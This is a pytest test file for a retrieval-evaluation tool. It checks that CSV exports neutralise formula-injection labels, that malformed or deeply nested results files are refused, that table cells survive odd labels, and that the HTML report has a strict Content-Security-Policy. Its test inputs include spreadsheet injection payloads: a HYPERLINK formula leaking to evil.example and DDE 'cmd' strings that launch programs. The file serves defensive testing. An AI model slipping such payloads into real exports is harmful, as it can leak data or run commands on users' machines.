"""Results read back safely and rendered safely (issue 24): hostile labels in every CSV irforge
writes are neutralised as OWASP recommends, a results.json is checked field by field once (deep
nesting and wrong types refused with the file and field named, exit 2, nothing written), labels
with newlines, pipes and LaTeX specials stay one cell in Markdown, LaTeX and text tables, the
report's Content-Security-Policy admits only its own scripts and style, and bench's statuses read
as success. Hand-written results files in eval's shape: no evaluation runs here."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from irforge.bench.table import suite_table
from irforge.cli.main import main
from irforge.compare.render import render_suite
from irforge.results import Results
from irforge.results.render import markdown as results_markdown
from irforge.results.render import text as results_text

MEASURES = ("nDCG@10", "R@100")
HOSTILE = ['=HYPERLINK("http://evil.example/?leak","click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", " =1+1", "\t=1+1", "\r=1+1"]


def write_results(folder: Path, shift: float = 0.0, **overrides) -> Path:
    """A results folder in the shape `irforge eval` writes (12 queries, two measures)."""
    folder.mkdir(parents=True, exist_ok=True)
    per_query = {f"q{i}": {"nDCG@10": min(1.0, (i % 5) / 5 + shift * (1 + i % 2)), "R@100": min(1.0, (i % 3) / 3 + shift * (i % 2))}
                 for i in range(12)}
    record = {
        "dataset": "toy", "split": "test",
        "retriever": {"name": "bm25", "backend": "embedded", "k1": 0.9, "b": 0.4, "top_k": 100},
        "metrics": {m: sum(v[m] for v in per_query.values()) / len(per_query) for m in MEASURES},
        "per_query": per_query,
        "evaluation": {"measures": list(MEASURES), "options": {}, "identical_ids": "dropped", "queries_evaluated": 12},
        "data": {"path": "/data/toy", "corpus_fingerprint_sha256": "c0ffee", "qrels_sha256": "beef",
                 "qrels_problems": {"unknown_queries": 0, "unknown_documents": 0}},
        "counts": {"documents_failed": 0}, "timings": {"index_s": 0.1, "retrieve_s": 0.1, "evaluate_s": 0.1},
        "versions": {"irforge": "test"}, "files": {"run": "run.trec"}, "created_at": "2026-11-26T00:00:00+00:00",
    }
    record.update(overrides)
    (folder / "results.json").write_text(json.dumps(record), encoding="utf-8")
    return folder


def run(capsys, *argv) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def compare(capsys, tmp_path, labels, fmt, *more) -> str:
    a, b = write_results(tmp_path / "a"), write_results(tmp_path / "b", shift=0.1)
    code, out, err = run(capsys, "compare", a, b, *[f"--label={label}" for label in labels], "--test", "t",
                         "--format", fmt, *more)
    assert code == 0, err
    return out


# ---- 1. CSV formula injection -------------------------------------------------------------------------

def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ tab or CR (after leading spaces), not numbers."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    number = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
    return [c for c in cells if (c[:1] in ("\t", "\r") or c.lstrip(" ").startswith(("=", "+", "-", "@")))
            and not number.fullmatch(c)]


@pytest.mark.parametrize("pair", [HOSTILE[:2], HOSTILE[2:4], HOSTILE[4:6], [HOSTILE[6], "-0.5"]])
def test_compare_csv_neutralises_formula_labels_and_keeps_numbers_numeric(pair, tmp_path, capsys):
    out = compare(capsys, tmp_path, pair, "csv", "--out", tmp_path / "out")
    written = (tmp_path / "out" / "comparison.csv").read_bytes().decode("utf-8")   # a lone \r as written
    for text in (out, written):
        assert formula_cells(text) == [], text
        rows = list(csv.DictReader(io.StringIO(text)))
        assert {row["system"] for row in rows} | {row["against"] for row in rows} == \
            {label if label == "-0.5" else "'" + label for label in pair}
        # Numbers stay numbers: the difference is negative in one direction, and still a plain float.
        assert all(float(row["difference"]) == pytest.approx(float(row["mean"]) - float(row["mean_against"])) for row in rows)


def test_every_csv_irforge_writes_neutralises_labels(tmp_path):
    suite = {"name": "s", "split": "test", "measures": ["nDCG@10"], "created_at": "now", "system": {"name": "bm25"},
             "datasets": [{"label": "=cmd()", "metrics": {"nDCG@10": -0.25}}, {"label": "@x", "metrics": {"nDCG@10": 0.5}}],
             "mean": {"nDCG@10": 0.125}}
    text = suite_table(suite, "csv")
    assert formula_cells(text) == [] and "'=cmd()" in text and "'@x" in text and ",-0.25" in text
    comparison = _suite_comparison("=dataset()")
    text = render_suite(comparison, "csv")
    assert formula_cells(text) == [] and "'=dataset()" in text and "'+sys" in text


def _suite_comparison(dataset: str) -> dict:
    """A suite comparison in compare's shape, built by compare itself from two hand-made results."""
    from irforge.compare.comparison import CompareSettings, compare_systems
    from irforge.compare.systems import System

    systems = []
    for label, shift in (("+sys", 0.0), ("other", 0.1)):
        folder = Path("/nowhere") / label
        record = json.loads(json.dumps({"metrics": {}, "per_query": {f"q{i}": {"nDCG@10": (i % 4) / 4 + shift * (i % 2)}
                                                                     for i in range(8)}}))
        systems.append(System(label, str(folder), record, record["per_query"]))
    inner = compare_systems(systems, CompareSettings(tests=("t",), significance_test="t"))
    return {"kind": "suite-comparison", "datasets": [dataset], "measures": inner["measures"], "comparisons": {dataset: inner},
            "systems": [{"label": s["label"], "letter": s["letter"]} for s in inner["systems"]],
            "mean": {s["label"]: s["metrics"] for s in inner["systems"]}, "settings": inner["settings"]}


# ---- 2. results.json read back: depth and types, checked once -------------------------------------

def deep_json(levels: int) -> str:
    return "[" * levels + "]" * levels


@pytest.mark.parametrize("levels", [50_000, 200])
def test_deeply_nested_results_are_refused_by_compare_and_report(levels, tmp_path, capsys):
    good = write_results(tmp_path / "good")
    deep = tmp_path / "deep"
    deep.mkdir()
    record = json.loads((good / "results.json").read_text())
    text = json.dumps(record)[:-1] + ', "extra": ' + deep_json(levels) + "}"
    (deep / "results.json").write_text(text)
    code, _, err = run(capsys, "compare", good, deep, "--test", "t", "--out", tmp_path / "cmp")
    assert code == 2 and f"{deep / 'results.json'}" in err and "nested deeper than" in err, err
    assert not (tmp_path / "cmp").exists()
    code, _, err = run(capsys, "report", deep, "--out", tmp_path / "r.html")
    assert code == 2 and "results.json" in err and "nested deeper than" in err, err
    assert not (tmp_path / "r.html").exists()
    from irforge.results.reading import ResultsFileError

    with pytest.raises(ResultsFileError, match="nested deeper than"):
        Results.load(deep)


def test_a_deep_comparison_or_suite_file_is_refused_by_report(tmp_path, capsys):
    for name in ("comparison.json", "suite.json"):
        path = tmp_path / name
        path.write_text('{"kind": "comparison", "x": ' + deep_json(50_000) + "}")
        code, _, err = run(capsys, "report", path, "--out", tmp_path / "r.html")
        assert code == 2 and str(path) in err and "nested deeper than" in err, err
        assert not (tmp_path / "r.html").exists()


@pytest.mark.parametrize("field, value, path, got", [
    ("metrics", {"nDCG@10": "high", "R@100": 0.3}, "metrics.nDCG@10", 'expected a number, got "high"'),
    ("metrics", {"nDCG@10": True, "R@100": 0.3}, "metrics.nDCG@10", "expected a number, got true"),
    ("per_query", {"q1": {"nDCG@10": "0.5", "R@100": 1}}, "per_query.q1.nDCG@10", 'expected a number, got "0.5"'),
    ("dataset", ["toy"], "dataset", 'expected a string, got ["toy"]'),
    ("evaluation", {"measures": ["nDCG@10", 7], "queries_evaluated": 12}, "evaluation.measures[1]", "expected a string, got 7"),
    ("split", "x" * 5000, "split", "longer than 1024 characters"),
])
def test_a_wrong_type_is_refused_naming_file_and_field(field, value, path, got, tmp_path, capsys):
    good = write_results(tmp_path / "good")
    bad = write_results(tmp_path / "bad", **{field: value})
    message = f"{bad / 'results.json'}: {path}: {got}"
    code, _, err = run(capsys, "report", bad, "--out", tmp_path / "r.html")
    assert code == 2 and message in err, err
    assert not (tmp_path / "r.html").exists()
    code, _, err = run(capsys, "compare", good, bad, "--test", "t", "--out", tmp_path / "cmp")
    assert code == 2 and message in err, err
    assert not (tmp_path / "cmp").exists()


def test_a_comparisons_systems_get_the_same_checks_in_report(tmp_path, capsys):
    """comparison.json carries each system's results record: the report checks it as results.json."""
    a, b = write_results(tmp_path / "a"), write_results(tmp_path / "b", shift=0.1)
    assert run(capsys, "compare", a, b, "--test", "t", "--out", tmp_path / "cmp")[0] == 0
    comparison = json.loads((tmp_path / "cmp" / "comparison.json").read_text())
    comparison["systems"][1]["evaluation"] = "dropped"
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps(comparison))
    code, _, err = run(capsys, "report", bad, "--out", tmp_path / "r.html")
    assert code == 2 and f"{bad}: systems[1]: evaluation: expected an object, got \"dropped\"" in err, err
    assert not (tmp_path / "r.html").exists()


def test_the_same_check_guards_agreement_and_results_load(tmp_path, capsys):
    folders = [write_results(tmp_path / f"s{n}", shift=n / 10) for n in range(3)]
    bad = write_results(tmp_path / "bad", metrics={"nDCG@10": float("nan"), "R@100": 0.1})
    code, _, err = run(capsys, "agreement", "--a", *folders, "--b", *folders[:2], bad, "--measure", "nDCG@10")
    assert code == 2 and f"{bad / 'results.json'}: metrics.nDCG@10: expected a number, got NaN" in err, err
    from irforge.results.reading import ResultsFileError

    with pytest.raises(ResultsFileError, match="metrics.nDCG@10: expected a number"):
        Results.load(bad)


# ---- 3. one cell stays one cell -------------------------------------------------------------------

ODD = ["two\nlines|piped", "back\\slash & 50% $x_1$ #{~^}"]


def markdown_cells(line: str) -> list[str]:
    """A GFM table row split on its unescaped pipes."""
    return re.split(r"(?<!\\)\|", line.strip().strip("|").replace("\\\\", "\0"))


def test_markdown_rows_keep_their_cells(tmp_path, capsys):
    out = compare(capsys, tmp_path, ODD, "markdown")
    table = [line for line in out.splitlines() if line.startswith("|")]
    widths = {len(markdown_cells(line)) for line in table[:4]}
    assert len(widths) == 1, table[:4]
    assert all(line.rstrip().endswith("|") for line in out.splitlines() if line.startswith("|")), out


def test_latex_rows_keep_their_cells(tmp_path, capsys):
    out = compare(capsys, tmp_path, ODD, "latex")
    rows = out.splitlines()[6:8]
    assert all(line.endswith(r"\\") and len(re.findall(r"(?<!\\)&", line)) == 3 for line in rows), out
    assert "%" not in out.replace(r"\%", "") and "$" not in out.replace(r"\$", "")


def test_text_rows_keep_their_lines(tmp_path, capsys):
    out = compare(capsys, tmp_path, ODD, "text")
    lines = out.splitlines()
    assert lines[2].startswith("a ") and lines[3].startswith("b "), out   # one line per system


def test_results_and_suite_tables_keep_their_cells(tmp_path):
    record = json.loads((write_results(tmp_path / "r", dataset="toy\n| x |") / "results.json").read_text())
    record["metrics"] = {"odd|measure\nname": 0.5}
    md = results_markdown(record)
    assert md.count("\n") == 5 and all(len(markdown_cells(line)) == 2 for line in md.splitlines()[2:]), md
    assert "\n| x |" not in results_text({**record, "metrics": {"m": 0.5}})
    suite = {"name": "s", "split": "test", "measures": ["nDCG@10"], "created_at": "now", "system": {"name": "bm25"},
             "datasets": [{"label": "a|b\nc", "metrics": {"nDCG@10": 0.5}}], "mean": {"nDCG@10": 0.5}}
    md = suite_table(suite, "markdown")
    assert md.count("\n") == 4 and {len(markdown_cells(line)) for line in md.splitlines()} == {2}, md
    assert suite_table(suite, "text").count("\n") == 4


# ---- 4. a strict Content-Security-Policy -----------------------------------------------------------

def csp_of(page: str) -> dict[str, list[str]]:
    found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    assert found, "no CSP meta"
    return {part.split()[0]: part.split()[1:] for part in found.group(1).split(";") if part.strip()}


def sha256_source(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode("utf-8")).digest()).decode() + "'"


def test_the_report_csp_admits_only_its_own_script_and_style(tmp_path, capsys):
    write_results(tmp_path / "a")
    code, _, err = run(capsys, "report", tmp_path / "a", "--out", tmp_path / "r.html")
    assert code == 0, err
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    policy = csp_of(page)
    assert policy["default-src"] == ["'none'"]
    for directive, element in (("script-src", "script"), ("style-src", "style")):
        sources = policy.get(directive, [])
        assert "'unsafe-inline'" not in sources and "'unsafe-eval'" not in sources, sources
        bodies = re.findall(rf"<{element}>(.*?)</{element}>", page, flags=re.S)
        assert bodies and all(sha256_source(body) in sources for body in bodies), directive
    assert not re.search(r"<script\b(?!>)", page) and not re.search(r"\son[a-z]+=", page) and " style=" not in page

    # Under that policy the page still renders in a browser: its scripts run, its style applies (the
    # style sets body's margin to 0; a probe, admitted by its own hash, reads it back).
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        return
    probe = 'document.documentElement.setAttribute("data-margin", getComputedStyle(document.body).marginTop);'
    probed = page.replace("</body>", f"<script>{probe}</script></body>").replace("script-src ", f"script-src {sha256_source(probe)} ", 1)
    (tmp_path / "probed.html").write_text(probed, encoding="utf-8")
    dom = subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions",
                          f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", (tmp_path / "probed.html").as_uri()],
                         capture_output=True, text=True, timeout=90).stdout
    assert 'data-rendered="ok"' in dom and 'data-script-errors=""' in dom and 'data-margin="0px"' in dom, dom[:400]


# ---- 5. bench's statuses ----------------------------------------------------------------------------

def write_bench(bench: Path, statuses, shift: float = 0.0) -> Path:
    """An `irforge bench` OUT folder: suite.json (bench's shape) and a results folder per dataset."""
    datasets = []
    for label, status in zip(("first", "second"), statuses):
        write_results(bench / label, shift)
        datasets.append({"label": label, "dataset": "toy", "path": "/data/toy", "split": "test",
                         "results": f"{label}/results.json", "status": status, "metrics": {"nDCG@10": 0.5},
                         "queries": 12, "timings": {}})
    (bench / "suite.json").write_text(json.dumps({
        "kind": "suite", "name": "s", "created_at": "now", "split": "test", "measures": ["nDCG@10"],
        "system": {"name": "bm25"}, "datasets": datasets, "mean": {"nDCG@10": 0.5}, "versions": {}}))
    return bench


def test_a_bench_suite_of_evaluated_and_reused_datasets_reads_as_success(tmp_path, capsys):
    from irforge.bench.record import DATASET_STATUSES   # the one definition of what bench writes

    assert set(DATASET_STATUSES) == {"evaluated", "reused"}
    bench = write_bench(tmp_path / "bench", DATASET_STATUSES)
    code, _, err = run(capsys, "report", bench, "--out", tmp_path / "r.html")
    assert code == 0, err
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert 'class="status-bad"' not in page and page.count('class="status-ok"') == 2 and "2 of 2 datasets ok" in page


def test_a_mistyped_suite_json_is_refused_naming_the_field(tmp_path, capsys):
    good, bad = write_bench(tmp_path / "good", ["evaluated"] * 2), write_bench(tmp_path / "bad", ["evaluated"] * 2, 0.1)
    suite = json.loads((bad / "suite.json").read_text())
    suite["datasets"][1]["metrics"] = {"nDCG@10": "high"}
    (bad / "suite.json").write_text(json.dumps(suite))
    message = f"{bad / 'suite.json'}: datasets[1].metrics.nDCG@10: expected a number, got \"high\""
    code, _, err = run(capsys, "report", bad, "--out", tmp_path / "r.html")
    assert code == 2 and message in err, err
    assert not (tmp_path / "r.html").exists()
    code, _, err = run(capsys, "compare", good, bad, "--test", "t", "--out", tmp_path / "cmp")
    assert code == 2 and message in err, err
    assert not (tmp_path / "cmp").exists()
